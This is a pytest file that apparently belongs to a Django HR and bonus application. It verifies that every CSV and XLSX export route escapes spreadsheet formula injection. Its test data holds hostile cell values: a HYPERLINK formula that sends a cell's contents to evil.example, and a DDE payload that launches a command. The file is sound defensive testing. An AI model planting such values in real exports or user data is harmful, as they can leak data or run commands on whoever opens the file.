"""Every CSV and XLSX export escapes formulas.

The export routes are found in the URL conf (any page route named `*export*`), so a new export
fails `test_every_export_route_is_covered` until it is listed here. Each is fetched as an HR
admin over data whose names start with every formula prefix; no cell of the file may start
with one, no XLSX cell may be a formula, and the names must be there (escaped).
"""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from assessments.models import Assessment
from assessments.reviews import services as review_services
from capabilities.models import Capability, JobRole
from plms.audit.services import audit_record
from plms.common.spreadsheets import FORMULA_PREFIXES, spreadsheet_cell
from plms.people.models import Department, Employee
from plms.privacy import exports, services
from reward import bonus
from tests.assessments.conftest import actor_of, closed_cycle, world  # noqa: F401 (fixture)
from tests.assessments.factories import ReviewAnswerFactory
from tests.conftest import in_org
from tests.reward.factories import PayGradeFactory, PayRecordFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"x")'
NAMES = {
    "capability": HYPERLINK,
    "role": "+SUM(1,2)",
    "person": "@cmd|' /C calc'!A0",
    "department": "-2+3",
    "description": "\t=1+1",
}


# Routes named *export* that are not files: a request button and a progress fragment.
NOT_FILES = {
    "privacy:export_request",
    "privacy:exports",
    "api:employee-personal-data-exports",
    "api:personal-data-export-list",
    "api:personal-data-export-detail",
}


def _export_route_names() -> set[str]:
    def walk(patterns, namespace=""):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
                yield from walk(pattern.url_patterns, inner)
            elif isinstance(pattern, URLPattern) and pattern.name and "export" in pattern.name:
                yield namespace + pattern.name

    return set(walk(get_resolver().url_patterns)) - NOT_FILES


def _urls(hostile):
    """Every export route with the query strings that produce each of its files."""
    cycle = closed_cycle(hostile, "Formula cycle")
    library = reverse("capabilities:export")
    return {
        "capabilities:export": [
            f"{library}?kind={kind}&format={fmt}"
            for kind in ("capabilities", "job_roles")
            for fmt in ("csv", "xlsx")
        ],
        "assessments:cycle_export": [reverse("assessments:cycle_export", args=[cycle.uuid])],
        "assessments:cycle_answers_export": [
            reverse("assessments:cycle_answers_export", args=[_answers_cycle(hostile).uuid])
        ],
        "audit:event_export": [reverse("audit:event_export") + "?format=csv"],
        "privacy:export_download": [
            reverse("privacy:export_download", args=[_personal_data_export(hostile).uuid])
        ],
        "api:personal-data-export-download": [
            f"/api/v1/personal-data-exports/{_personal_data_export(hostile).uuid}/download"
        ],
        **_bonus_urls(hostile),
    }


def _bonus_urls(hostile) -> dict[str, list[str]]:
    """A bonus run over the hostile person (name and department), one line adjusted with a
    reason that reads like a formula; both the page's and the API's download."""
    grade = PayGradeFactory(organization=hostile.org, target_bonus_percent=10)
    PayRecordFactory(organization=hostile.org, employee=hostile.employee.employee, grade=grade)
    with in_org(hostile.org):
        run = bonus.bonus_run_open(actor=actor_of(hostile.hr), name="Formula bonus", year=2027)
        line = run.lines.get(employee=hostile.employee.employee)
        bonus.bonus_adjust(
            actor=actor_of(hostile.hr), line=line, amount=Decimal(1), reason=HYPERLINK
        )
    page = reverse("reward:bonus_run_export", args=[run.uuid])
    api = f"/api/v1/bonus-runs/{run.uuid}/export"
    return {
        "reward:bonus_run_export": [page, f"{page}?file_format=xlsx"],
        "api:bonus-run-export": [api, f"{api}?file_format=xlsx"],
    }


def _answers_cycle(hostile):
    """A closed cycle whose template asks a question named like a formula, answered with one."""
    with in_org(hostile.org):
        template = review_services.review_template_create(
            actor=hostile.system,
            name="Formula template",
            sections=[
                {"kind": "capabilities", "rater_kinds": ["manager"]},
                {
                    "kind": "open",
                    "rater_kinds": ["manager"],
                    "required": False,
                    "questions": [{"key": "q-formula", "text": NAMES["role"]}],
                },
            ],
        )
    cycle = closed_cycle(hostile, "Answers cycle", review_template=template)
    with in_org(hostile.org):
        assessment = Assessment.objects.get(
            cycle=cycle,
            employee=hostile.employee.employee,
            kind="manager",
            rater=hostile.manager.employee,
        )
        ReviewAnswerFactory(
            organization=hostile.org,
            assessment=assessment,
            question_key="q-formula",
            text=HYPERLINK,
        )
    return cycle


def _personal_data_export(hostile):
    with in_org(hostile.org):
        export = services.personal_data_export_request(
            actor=actor_of(hostile.hr), employee=hostile.employee.employee
        )
        exports.personal_data_export_run(export_id=export.pk)
    return export


def _number(text: str) -> bool:
    """Numbers (a gap of -1.00) are written as numbers: a spreadsheet reads no formula there."""
    try:
        float(text)
    except ValueError:
        return False
    return True


def _cells(response) -> list:
    content_type = response["Content-Type"]
    if content_type == "application/zip":
        archive = zipfile.ZipFile(io.BytesIO(response.content))
        return [
            cell
            for name in archive.namelist()
            if name.endswith(".csv")
            for row in csv.reader(io.StringIO(archive.read(name).decode()))
            for cell in row
        ]
    if content_type.startswith("text/csv"):
        return [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert "spreadsheetml" in content_type, content_type
    workbook = load_workbook(io.BytesIO(response.content))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                cells.append(cell.value)
    return cells


@pytest.fixture
def hostile_world(world):  # noqa: F811
    with in_org(world.org):
        Capability.objects.filter(pk=world.capabilities[0].pk).update(
            name=NAMES["capability"], description=NAMES["description"]
        )
        JobRole.objects.filter(pk=world.role.pk).update(name=NAMES["role"])
        Employee.objects.filter(pk=world.employee.employee.pk).update(
            first_name=NAMES["person"], last_name=""
        )
        department = Department.objects.create(name=NAMES["department"])
        Employee.objects.filter(pk=world.employee.employee.pk).update(department=department)
        audit_record(
            action="data.exported",
            organization=world.org,
            actor_label=NAMES["person"],
            object_label=NAMES["capability"],
        )
    return world


def test_every_export_route_is_covered(hostile_world):
    assert _export_route_names() == set(_urls(hostile_world))


def test_every_export_route_escapes_formulas(hostile_world, client):
    client.force_login(hostile_world.hr.user)
    urls = _urls(hostile_world)
    for route, route_urls in urls.items():
        for url in route_urls:
            response = client.get(url)
            assert response.status_code == 200, (route, url, response.status_code)
            cells = [str(cell) for cell in _cells(response) if cell is not None]
            dangerous = [
                cell for cell in cells if cell.startswith(FORMULA_PREFIXES) and not _number(cell)
            ]
            assert dangerous == [], (url, dangerous)
            expected = {
                "capabilities:export": (NAMES["capability"], NAMES["description"]),
                "assessments:cycle_export": (NAMES["capability"], NAMES["person"]),
                "assessments:cycle_answers_export": (NAMES["person"], NAMES["role"], HYPERLINK),
                "audit:event_export": (NAMES["capability"], NAMES["person"]),
                "privacy:export_download": (NAMES["person"],),
                "api:personal-data-export-download": (NAMES["person"],),
                "reward:bonus_run_export": (NAMES["person"], NAMES["department"], HYPERLINK),
                "api:bonus-run-export": (NAMES["person"], NAMES["department"], HYPERLINK),
            }[route]
            if "job_roles" in url:
                expected = (NAMES["role"],)
            for name in expected:
                assert spreadsheet_cell(name) in cells, (url, name)


def test_the_helper_escapes_every_prefix_and_leaves_numbers():
    for prefix in FORMULA_PREFIXES:
        assert spreadsheet_cell(f"{prefix}1") == f"'{prefix}1"
    assert spreadsheet_cell(-3) == -3
    assert spreadsheet_cell("Customer = king") == "Customer = king"
